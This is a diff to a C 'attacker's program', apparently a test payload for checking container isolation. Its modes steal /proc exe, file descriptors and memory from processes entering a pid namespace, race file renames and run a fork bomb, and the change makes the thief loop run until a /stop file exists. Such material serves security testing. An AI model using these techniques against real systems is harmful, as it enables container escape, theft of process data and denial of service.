@@ -1,6 +1,6 @@
 /* The attacker's program, static, as /bin/payload in the image and as a racer on the host:
  *   payload cwd              where am I, what fds do I have
- *   payload thief SECONDS    take /proc/PID/exe, fds and memory of whoever comes into this pid namespace
+ *   payload thief            take /proc/PID/exe, fds and memory of whoever comes into this pid namespace, until /stop is there
  *   payload swap A B         exchange two names for ever (renameat2)
  *   payload seccomp          what some system calls give
  *   payload bomb             fork without end; those that cannot fork try again
@@ -90,14 +90,14 @@ static void rob(int pid, ino_t own)
 	close(exe);
 }
 
-static int thief(double seconds)
+static int thief(void)
 {
 	struct stat own;
 	if (stat("/proc/self/exe", &own) < 0)
 		return 1;
 	puts("watching");
 	fflush(stdout);
-	for (double end = now() + seconds; now() < end;) {
+	while (access("/stop", F_OK) < 0) {
 		int last = getpid();
 		FILE *f = fopen("/proc/loadavg", "r"); /* its last field is the last pid given in this namespace */
 		if (f) {
@@ -177,8 +177,8 @@ int main(int argc, char **argv)
 	const char *what = argc > 1 ? argv[1] : "";
 	if (!strcmp(what, "cwd"))
 		return cwd();
-	if (!strcmp(what, "thief") && argc > 2)
-		return thief(atof(argv[2]));
+	if (!strcmp(what, "thief"))
+		return thief();
 	if (!strcmp(what, "swap") && argc > 3)
 		return swap(argv[2], argv[3]);
 	if (!strcmp(what, "seccomp"))
